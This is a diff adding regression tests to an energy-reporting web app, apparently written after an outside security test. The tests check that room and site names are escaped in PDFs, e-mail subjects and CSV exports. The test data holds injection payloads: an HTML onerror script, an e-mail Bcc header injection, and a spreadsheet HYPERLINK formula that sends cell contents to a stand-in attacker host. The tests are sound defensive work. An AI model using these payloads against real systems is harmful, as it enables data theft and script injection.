@@ -326,3 +326,63 @@ def test_a_grid_carbon_feed_must_be_in_g_per_kwh(june, engineer_api):
     r = engineer_api.post(f"{API}/sites", {"site": site.pk, "grid_carbon_feed": grams.pk},
                           format="json")  # fmt: skip
     assert r.status_code == 201, r.content[:200]
+
+
+MARKUP_NAMES = [
+    "Hall <b>",
+    "<img src=x onerror=alert(1)>",
+    '<a href="http://evil.example/">Hall</a>',
+    '<font size="60">Big</font>',
+    "Tom & Jerry's <i>",
+]
+
+
+def test_a_name_with_a_line_break_does_not_stop_the_monthly_mail(june):
+    site, office, _room = june
+    office.name = "Hall\nBcc: x@evil.example"
+    office.save()
+    ReportRecipient.objects.create(site=site, email="office@example.org")
+    assert len(report_mail.send_month(site, 2024, 6)) == 1
+    assert mail.outbox[-1].subject == "[BMS] Hall Bcc: x@evil.example: energy in June 2024"
+    assert mail.outbox[-1].bcc == []
+
+
+@needs_poppler
+@pytest.mark.parametrize("name", MARKUP_NAMES)
+def test_a_name_with_markup_is_printed_as_written_not_obeyed(june, viewer_api, tmp_path, name):
+    # found by the outside tester: the name was parsed as ReportLab markup (a 500, a live link,
+    # a 60 pt title); the site's name goes into the PDF too
+    site, office, _room = june
+    office.name = name
+    office.save()
+    site.name = f"Site {name}"
+    site.save()
+    r = viewer_api.get(f"{API}/nodes/{office.pk}/report.pdf?month=2024-06")
+    assert r.status_code == 200, r.content[:300]
+    assert b"/Annot" not in r.content and b"/URI" not in r.content  # no link in the PDF
+    path = tmp_path / "r.pdf"
+    path.write_bytes(r.content)
+    text = subprocess.run(["pdftotext", "-raw", str(path), "-"], capture_output=True,
+                          text=True, check=True).stdout  # fmt: skip
+    text = " ".join(text.split())  # a long title wraps
+    assert f"{name}: energy in June 2024" in text
+    assert f"Site {name}" in text
+    ReportRecipient.objects.create(site=site, email="office@example.org")
+    assert len(report_mail.send_month(site, 2024, 6)) == 1  # the monthly e-mail goes too
+    assert mail.outbox[-1].attachments[0][1].startswith(b"%PDF-")
+
+
+def test_a_name_that_starts_like_a_formula_is_text_in_the_csv_numbers_stay_numbers(june):
+    # found by the outside tester: the mailed CSV carried a live =HYPERLINK(...) formula
+    _site, office, _room = june
+    office.name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    office.save()
+    rows = list(csv.reader(io.StringIO(monthly.to_csv(monthly.build(office, 2024, 6)).decode())))
+    assert {r[0] for r in rows[1:]} == {'\'=HYPERLINK("http://evil.example/?"&A1,"click")'}
+    by_day = {r[3]: r for r in rows[1:]}
+    assert by_day["2024-06-30"][7] == "-380"  # a negative CUSUM is a number, not quoted text
+    for start in ("+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"):
+        office.name = start
+        office.save()
+        body = monthly.to_csv(monthly.build(office, 2024, 6)).decode()
+        assert {r[0] for r in list(csv.reader(io.StringIO(body)))[1:]} == {"'" + start}
